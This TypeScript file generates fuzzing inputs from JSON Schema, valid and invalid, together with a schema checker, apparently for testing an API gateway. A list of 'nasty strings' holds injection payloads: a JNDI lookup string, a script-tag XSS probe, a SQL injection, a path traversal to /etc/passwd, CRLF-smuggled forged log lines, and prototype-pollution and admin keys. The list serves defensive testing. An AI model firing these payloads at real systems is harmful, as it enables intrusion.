/**
 * fast-check arbitraries from JSON Schema, for the subset the OpenAPI
 * document uses: values a schema accepts, values it should refuse (one fault
 * at a time), and a checker that says where a value breaks a schema.
 * Formats and patterns are aimed at, not guaranteed: a case that misses is
 * still a fair case for a fuzzer.
 */
import fc from 'fast-check';

export interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  uniqueItems?: boolean;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  enum?: unknown[];
  anyOf?: JsonSchema[];
}

/** Values chosen by property name (a known user's email, a live session id), so some cases get past validation. */
export type Hints = Record<string, readonly unknown[]>;

/** A marker a forged log line would carry; the log check looks for it. */
export const FORGED_MARKER = 'forged-log-line';
/** A log line as the logger would write it, for inputs to smuggle in after a line break. */
export const FORGED_LINE = JSON.stringify({
  level: 30,
  time: '2026-01-01T00:00:00.000Z',
  pid: 1,
  name: 'gateway',
  msg: FORGED_MARKER,
  [FORGED_MARKER]: true,
});

/** Keys that reach an object's prototype when code is careless with them. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** Strings that have broken parsers, loggers and lookups before. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\r\n',
    '\n',
    '\r',
    `x\n${FORGED_LINE}\n`,
    `x\r\n${FORGED_LINE}`,
    `\r${FORGED_LINE}`,
    ...PROTOTYPE_KEYS,
    '${jndi:ldap://example.com/a}',
    '<script>alert(1)</script>',
    "' OR 1=1 --",
    '%00',
    '%0d%0a',
    '\\',
    '"',
    '\u2028\u2029',
    '\uFEFF',
    '\uD800',
    '\uDFFF',
    '😀',
    'İ',
    'ﬀ',
    'Ａ',
    'é',
    '../../etc/passwd',
    'null',
    'true',
    '0',
    '-1',
    '1e309',
    'NaN',
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc
    .tuple(fc.string({ maxLength: 8 }), fc.constantFrom('\r', '\n', '\r\n', '\u0000'), fc.string({ maxLength: 8 }))
    .map((parts) => parts.join('')),
  fc.integer({ min: 300, max: 6000 }).map((length) => 'x'.repeat(length)),
);

/** Any JSON value at all, a deep one now and then. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 2, arbitrary: nastyString },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 20, max: 2000 })
      .map((depth) => JSON.parse(`${'['.repeat(depth)}${']'.repeat(depth)}`) as unknown),
  },
);

function withHints(arbitrary: fc.Arbitrary<unknown>, name: string | undefined, hints: Hints): fc.Arbitrary<unknown> {
  const hinted = name !== undefined && Object.hasOwn(hints, name) ? hints[name] : undefined;
  return hinted && hinted.length > 0
    ? fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...hinted) }, { weight: 3, arbitrary: arbitrary })
    : arbitrary;
}

function validString(schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 64, minLength + 64);
  const fits = (value: string) => [...value].length >= minLength && [...value].length <= (schema.maxLength ?? Infinity);
  if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern)).filter(fits);
  if (schema.format === 'email') return fc.emailAddress().filter(fits);
  if (schema.format === 'date-time') return fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
  // Free text: the nasty strings that fit go past validation into the handlers.
  return fc.oneof(
    fc.string({ minLength, maxLength }),
    fc.string({ minLength, maxLength, unit: 'binary' }),
    nastyString.filter(fits),
  );
}

/** Values the schema accepts. */
export function validValue(schema: JsonSchema, hints: Hints = {}, name?: string): fc.Arbitrary<unknown> {
  return withHints(validUnhinted(schema, hints), name, hints);
}

function validUnhinted(schema: JsonSchema, hints: Hints): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((option) => validValue(option, hints)));
  switch (schema.type) {
    case 'string':
      return validString(schema);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6 });
    case 'number':
      return fc.double({
        noNaN: true,
        noDefaultInfinity: true,
        min: schema.minimum ?? -1e6,
        max: schema.maximum ?? 1e6,
      });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      const items = validValue(schema.items ?? {}, hints);
      const constraints = { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 6, 6) };
      return schema.uniqueItems
        ? fc.uniqueArray(items, { ...constraints, selector: (item) => JSON.stringify(item) })
        : fc.array(items, constraints);
    }
    case 'object': {
      const properties = schema.properties ?? {};
      const model = Object.fromEntries(
        Object.entries(properties).map(([key, property]) => [key, validValue(property, hints, key)]),
      );
      return fc.record(model, {
        requiredKeys: (schema.required ?? []).filter((key) => Object.hasOwn(properties, key)),
      });
    }
    default:
      return anyJson;
  }
}

/** A value of another JSON type than the schema's (any value, for a schema that allows all). */
function wrongType(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.type === undefined && schema.enum === undefined && schema.anyOf === undefined) return anyJson;
  const others: fc.Arbitrary<unknown>[] = [
    schema.type === 'string' ? fc.integer() : nastyString,
    fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, [], {}),
    fc.array(fc.string(), { maxLength: 3 }),
    fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  ];
  return fc.oneof(...others).filter((value) => matchesSchema(schema, value) !== undefined);
}

/** Sets a key as an own property, so `__proto__` goes out in the JSON like any other key. */
function withKey(object: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...object };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

function brokenObject(schema: JsonSchema, hints: Hints): fc.Arbitrary<unknown> {
  const properties = Object.entries(schema.properties ?? {});
  const valid = validValue(schema, hints) as fc.Arbitrary<Record<string, unknown>>;
  // An extra key: refused where the schema says so, and a prototype key is worth sending anywhere.
  const extraKey = fc.oneof(
    fc.constantFrom(...PROTOTYPE_KEYS, 'admin', 'isAdmin', 'role'),
    fc.string({ maxLength: 12 }),
  );
  const faults: fc.Arbitrary<unknown>[] = [
    fc
      .tuple(valid, extraKey, anyJson)
      .map(([object, key, value]) => (Object.hasOwn(object, key) ? object : withKey(object, key, value))),
    wrongType(schema),
  ];
  const required = (schema.required ?? []).filter((key) => properties.some(([name]) => name === key));
  if (required.length > 0) {
    faults.push(
      fc.tuple(valid, fc.constantFrom(...required)).map(([object, key]) => {
        const copy = { ...object };
        delete copy[key];
        return copy;
      }),
    );
  }
  if (properties.length > 0) {
    faults.push(
      fc
        .constantFrom(...properties)
        .chain(([key, property]) =>
          fc.tuple(valid, invalidValue(property, hints)).map(([object, broken]) => withKey(object, key, broken)),
        ),
    );
  }
  return fc.oneof(...faults);
}

function brokenString(schema: JsonSchema): fc.Arbitrary<unknown> {
  // Nasty strings break most patterns and formats; one that happens to fit is still a fair case.
  const faults: fc.Arbitrary<unknown>[] = [wrongType(schema), nastyString];
  if (schema.maxLength !== undefined) {
    const limit = schema.maxLength;
    faults.push(
      fc
        .tuple(fc.integer({ min: limit + 1, max: limit + 300 }), fc.constantFrom('a', 'é', '😀', '\n'))
        .map(([length, unit]) => unit.repeat(length)),
    );
  }
  if (schema.minLength !== undefined && schema.minLength > 0)
    faults.push(fc.string({ maxLength: schema.minLength - 1 }));
  return fc.oneof(...faults);
}

/** Values the schema should refuse (mostly): a wrong type, a missing or extra key, a broken limit or pattern. */
export function invalidValue(schema: JsonSchema, hints: Hints = {}): fc.Arbitrary<unknown> {
  if (schema.enum || schema.anyOf) return fc.oneof(wrongType(schema), nastyString);
  switch (schema.type) {
    case 'object':
      return brokenObject(schema, hints);
    case 'string':
      return brokenString(schema);
    case 'array': {
      const faults: fc.Arbitrary<unknown>[] = [
        wrongType(schema),
        fc.array(wrongType(schema.items ?? {}), { minLength: 1, maxLength: 3 }),
      ];
      if (schema.maxItems !== undefined)
        faults.push(
          fc.array(fc.string({ minLength: 1, maxLength: 4 }), {
            minLength: schema.maxItems + 1,
            maxLength: schema.maxItems + 20,
          }),
        );
      if (schema.uniqueItems) faults.push(fc.string({ minLength: 1, maxLength: 4 }).map((item) => [item, item]));
      return fc.oneof(...faults);
    }
    default:
      return wrongType(schema);
  }
}

/** Mostly broken values, some valid ones: what a fuzzer sends. */
export function fuzzValue(schema: JsonSchema, hints: Hints = {}): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 2, arbitrary: validValue(schema, hints) },
    { weight: 3, arbitrary: invalidValue(schema, hints) },
  );
}

function typeMismatch(schema: JsonSchema, value: unknown): boolean {
  switch (schema.type) {
    case 'string':
      return typeof value !== 'string';
    case 'integer':
      return !Number.isInteger(value);
    case 'number':
      return typeof value !== 'number';
    case 'boolean':
      return typeof value !== 'boolean';
    case 'null':
      return value !== null;
    case 'array':
      return !Array.isArray(value);
    case 'object':
      return typeof value !== 'object' || value === null || Array.isArray(value);
    default:
      return false;
  }
}

/** Where `value` breaks `schema` (formats aside), or undefined when it fits. */
export function matchesSchema(schema: JsonSchema, value: unknown, at = '$'): string | undefined {
  if (schema.anyOf)
    return schema.anyOf.some((option) => matchesSchema(option, value, at) === undefined)
      ? undefined
      : `${at} fits none of anyOf`;
  if (schema.enum && !schema.enum.some((allowed) => JSON.stringify(allowed) === JSON.stringify(value)))
    return `${at} is not one of ${JSON.stringify(schema.enum)}`;
  if (typeMismatch(schema, value)) return `${at} is not of type ${schema.type}`;
  if (typeof value === 'string') {
    const length = [...value].length;
    if (schema.minLength !== undefined && length < schema.minLength) return `${at} is shorter than ${schema.minLength}`;
    if (schema.maxLength !== undefined && length > schema.maxLength) return `${at} is longer than ${schema.maxLength}`;
    if (schema.pattern && !new RegExp(schema.pattern, 'u').test(value)) return `${at} does not match ${schema.pattern}`;
  }
  if (Array.isArray(value)) {
    if (schema.minItems !== undefined && value.length < schema.minItems)
      return `${at} has fewer than ${schema.minItems} items`;
    if (schema.maxItems !== undefined && value.length > schema.maxItems)
      return `${at} has more than ${schema.maxItems} items`;
    if (schema.uniqueItems && new Set(value.map((item) => JSON.stringify(item))).size !== value.length)
      return `${at} repeats an item`;
    for (const [index, item] of value.entries()) {
      const problem = schema.items && matchesSchema(schema.items, item, `${at}[${index}]`);
      if (problem) return problem;
    }
  }
  if (schema.type === 'object' && typeof value === 'object' && value !== null) {
    const object = value as Record<string, unknown>;
    for (const key of schema.required ?? []) if (!Object.hasOwn(object, key)) return `${at}.${key} is missing`;
    for (const key of Object.keys(object)) {
      const property = schema.properties && Object.hasOwn(schema.properties, key) ? schema.properties[key] : undefined;
      if (!property && schema.additionalProperties === false) return `${at}.${key} is not allowed`;
      const problem = property && matchesSchema(property, object[key], `${at}.${key}`);
      if (problem) return problem;
    }
  }
  return undefined;
}
